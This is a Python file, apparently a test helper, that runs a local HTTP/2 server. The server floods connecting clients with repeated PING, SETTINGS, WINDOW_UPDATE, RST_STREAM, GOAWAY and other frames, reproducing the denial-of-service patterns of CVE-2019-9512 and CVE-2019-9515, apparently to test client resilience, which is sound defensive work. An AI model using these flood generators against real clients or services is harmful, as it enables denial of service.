"""A server of HTTP/2 that says the same thing without end, and reads nothing or all (CVE-2019-9512, CVE-2019-9515)."""

from __future__ import annotations

import asyncio
import socket

from hyperframe.frame import (
    DataFrame,
    ExtensionFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)  # fmt: skip

PIECE = 64 * 1024  # bytes that are written at once
# Kind, END_HEADERS with or without END_STREAM, number.
HEADERS_OF_STREAM_1 = (b"\x01\x05\x00\x00\x00\x01", b"\x01\x04\x00\x00\x00\x01")


def asks(data: bytes) -> bool:
    """Whether the first request is in what came: the connection preface and SETTINGS come before it."""
    return any(head in data for head in HEADERS_OF_STREAM_1)


def said(frame: Frame) -> bytes:
    data = frame.serialize()
    return data * (PIECE // len(data))


FLOODS = {
    "ping": said(PingFrame(0, bytes(8))),
    "settings": said(SettingsFrame(0)),
    "settings that change": said(SettingsFrame(0, {SettingsFrame.INITIAL_WINDOW_SIZE: 65535})),
    "windows of nothing": said(WindowUpdateFrame(1, 1)),
}
# These call forth nothing. They are said once the first request is there, on its stream.
IDLE_TALK = {
    "windows": said(WindowUpdateFrame(1, 1)),
    "windows of the connection": said(WindowUpdateFrame(0, 1)),
    "answers to PINGs": said(PingFrame(0, bytes(8), flags=["ACK"])),
    "acknowledgements": said(SettingsFrame(0, flags=["ACK"])),
    "unknown frames": said(ExtensionFrame(0x55, 0, body=b"x")),
    "priorities": said(PriorityFrame(1, depends_on=3)),
    "farewells": said(GoAwayFrame(0, last_stream_id=1)),
    "data of nothing": HeadersFrame(1, b"\x88", flags=["END_HEADERS"]).serialize() + said(DataFrame(1)),
    "interim answers": said(HeadersFrame(1, b"\x08\x03103", flags=["END_HEADERS"])),
    "resets": said(RstStreamFrame(1, 8)),
}


class FloodingPeer:
    """`open` connections, and the `most` that there were at once. The listening socket may be given."""

    def __init__(self, flood: bytes, reads: bool = False, waits: bool = False) -> None:
        self.flood = flood
        self.reads = reads or waits
        self.waits = waits  # for a request
        self.connections: set[asyncio.BaseTransport] = set()
        self.most = 0
        self.made = 0

    @property
    def open(self) -> int:
        return len(self.connections)

    async def start(self, sock: socket.socket | None = None) -> None:
        if sock is None:
            sock = socket.socket()
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            sock.bind(("127.0.0.1", 0))
            sock.listen(128)
        sock.setblocking(False)
        name = sock.getsockname()
        self.address = f"unix:{name}" if isinstance(name, str) else f"127.0.0.1:{name[1]}"
        loop = asyncio.get_running_loop()
        make = loop.create_unix_server if sock.family == socket.AF_UNIX else loop.create_server
        self.server = await make(lambda: _Connection(self), sock=sock)

    def close(self) -> None:
        self.server.close()
        for transport in list(self.connections):
            assert isinstance(transport, asyncio.Transport)
            transport.abort()


class _Connection(asyncio.Protocol):
    def __init__(self, peer: FloodingPeer) -> None:
        self.peer = peer
        self.full = False
        self.asked = False

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        assert isinstance(transport, asyncio.Transport)
        self.transport = transport
        self.peer.connections.add(transport)
        self.peer.made += 1
        self.peer.most = max(self.peer.most, self.peer.open)
        if not self.peer.reads:
            transport.pause_reading()
        transport.write(SettingsFrame(0).serialize())
        if not self.peer.waits:
            self.go_on()

    def data_received(self, data: bytes) -> None:
        if self.peer.waits and not self.asked and asks(data):
            self.asked = True
            self.go_on()

    def go_on(self) -> None:
        if not self.full and not self.transport.is_closing():
            self.transport.write(self.peer.flood)
            asyncio.get_running_loop().call_later(0.001, self.go_on)  # others have the loop, too

    def pause_writing(self) -> None:
        self.full = True

    def resume_writing(self) -> None:
        self.full = False
        self.go_on()

    def connection_lost(self, error: Exception | None) -> None:
        self.peer.connections.discard(self.transport)
